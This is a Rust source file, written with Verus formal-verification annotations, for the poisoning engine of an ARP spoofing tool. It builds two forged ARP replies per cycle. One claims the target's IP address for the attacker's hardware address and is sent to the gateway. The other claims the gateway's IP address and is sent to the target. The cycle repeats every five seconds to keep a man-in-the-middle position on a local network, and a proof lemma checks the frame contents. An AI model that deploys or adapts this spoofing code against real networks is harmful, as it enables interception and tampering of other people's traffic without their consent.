//! The poisoning engine: what one cycle puts on the wire.

use vstd::prelude::*;
use crate::builder::{arp_claim, arp_reply_frame, build_arp_reply, lemma_arp_frame_parses_back};
use crate::config::{AddressConfig, AddressConfigView};
use crate::wire::{
    arp_fields, eth_destination, eth_ethertype, eth_payload, eth_source, ARP_OPERATION_REPLY,
    ETHERTYPE_ARP, MIN_FRAME_LEN,
};

verus! {

/// Seconds to wait after one cycle before the false mappings are asserted
/// again.
pub const POISON_INTERVAL_SECS: u64 = 5;

/// The frames of one poisoning cycle, in the order in which they are sent.
///
/// The first tells the gateway that the target's address is reached at this
/// host; the second tells the target that the gateway's address is reached at
/// this host.
pub open spec fn poison_frames(config: AddressConfigView) -> Seq<Seq<u8>> {
    seq![
        arp_reply_frame(config.host_mac, config.target_ip, config.gateway_mac, config.gateway_ip),
        arp_reply_frame(config.host_mac, config.gateway_ip, config.target_mac, config.target_ip),
    ]
}

/// A poisoning cycle is exactly two ARP replies from this host. The first
/// goes to the gateway and claims the target's IP address for the host's
/// hardware address; the second goes to the target and claims the gateway's
/// IP address for it. Each names its recipient's own addresses as the ARP
/// target.
pub proof fn lemma_poison_cycle_pairing(config: AddressConfigView)
    ensures
        poison_frames(config).len() == 2,
        forall|i: int|
            0 <= i < 2 ==> {
                let frame = #[trigger] poison_frames(config)[i];
                &&& frame.len() == MIN_FRAME_LEN
                &&& eth_source(frame) == config.host_mac
                &&& eth_ethertype(frame) == ETHERTYPE_ARP
            },
        eth_destination(poison_frames(config)[0]) == config.gateway_mac,
        arp_fields(eth_payload(poison_frames(config)[0])) == arp_claim(
            config.host_mac,
            config.target_ip,
            config.gateway_mac,
            config.gateway_ip,
            ARP_OPERATION_REPLY,
        ),
        eth_destination(poison_frames(config)[1]) == config.target_mac,
        arp_fields(eth_payload(poison_frames(config)[1])) == arp_claim(
            config.host_mac,
            config.gateway_ip,
            config.target_mac,
            config.target_ip,
            ARP_OPERATION_REPLY,
        ),
{
    lemma_arp_frame_parses_back(
        config.host_mac,
        config.target_ip,
        config.gateway_mac,
        config.gateway_ip,
        ARP_OPERATION_REPLY,
    );
    lemma_arp_frame_parses_back(
        config.host_mac,
        config.gateway_ip,
        config.target_mac,
        config.target_ip,
        ARP_OPERATION_REPLY,
    );
}

impl AddressConfig {
    /// Builds the frames of one poisoning cycle, in sending order. The caller
    /// sends each on the interface and then waits `POISON_INTERVAL_SECS`.
    pub fn poison_cycle(&self) -> (frames: Vec<Vec<u8>>)
        ensures
            frames@.len() == 2,
            frames@[0]@ == poison_frames(self@)[0],
            frames@[1]@ == poison_frames(self@)[1],
    {
        let for_gateway = build_arp_reply(
            self.host_mac(),
            self.target_ip(),
            self.gateway_mac(),
            self.gateway_ip(),
        );
        let for_target = build_arp_reply(
            self.host_mac(),
            self.gateway_ip(),
            self.target_mac(),
            self.target_ip(),
        );
        let mut frames: Vec<Vec<u8>> = Vec::new();
        frames.push(for_gateway);
        frames.push(for_target);
        frames
    }
}

} // verus!
